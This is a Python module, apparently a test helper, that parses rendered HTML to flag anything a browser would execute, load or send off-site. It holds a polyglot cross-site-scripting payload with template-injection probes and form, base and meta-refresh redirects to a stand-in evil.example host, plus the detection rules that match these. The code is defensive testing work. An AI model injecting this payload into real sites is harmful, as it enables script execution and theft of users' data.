"""What a browser would run of a page, found as a browser finds it: by its tags, not by searching for text."""

from __future__ import annotations

from html.parser import HTMLParser

# One text that breaks out of every place that a page has: an element, an attribute in either quote, a script, a
# comment, a style, a URL, a template.
HOSTILE = (
    "'\"--></script></style></title></textarea><script>evil()</script><img src=x onerror=evil()>"
    "<svg/onload=evil()><a href=javascript:evil()>x</a><iframe srcdoc=x></iframe><base href=//evil.example>"
    "<form action=//evil.example>{{7*7}}${7*7}<meta http-equiv=refresh content=0;url=//evil.example>"
    "<div style=position:fixed hx-get=//evil.example hx-on:load=evil()>"
)
MARK = "evil"
ADDRESSES = frozenset(
    {"href", "src", "action", "formaction", "hx-get", "hx-post", "srcdoc", "xlink:href", "data-events"}
)


class Danger(HTMLParser):
    """Collects what must not be there."""

    def __init__(self) -> None:
        """Nothing is found yet."""
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._raw = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at one element."""
        given = {name: value or "" for name, value in attrs}
        self._raw = tag if tag in ("script", "style") else ""
        for name, value in given.items():
            if name.startswith(("on", "hx-on")) or name == "style" or (name in ADDRESSES and _elsewhere(value)):
                self.found.append(f"<{tag} {name}={value}>")
        if tag in ("base", "iframe", "object", "embed", "applet") or (tag == "meta" and "http-equiv" in given):
            self.found.append(f"<{tag}>")
        if tag == "script" and "src" not in given:
            self.found.append("<script> without src")

    def handle_endtag(self, tag: str) -> None:
        """A script ends."""
        self._raw = ""

    def handle_data(self, data: str) -> None:
        """Text is only dangerous inside a script or a style."""
        if self._raw and MARK in data:
            self.found.append(f"<{self._raw}> with {data[:60]}")
        if "49" in data and "{{7*7}}" not in data and "${" in data:
            self.found.append("a template was run")


def _elsewhere(address: str) -> bool:
    # Browsers pass over blanks and control characters before a scheme, and take a backslash for a slash.
    start = address.lower().lstrip("".join(map(chr, range(33)))).replace("\\", "/")
    return start.startswith(("javascript:", "vbscript:", "data:text", "//")) or (MARK in start and "://" in start)


def dangers(page: str) -> list[str]:
    """Everything in a page that a browser would run, load or send elsewhere. Empty is good."""
    look = Danger()
    look.feed(page)
    look.close()
    return look.found
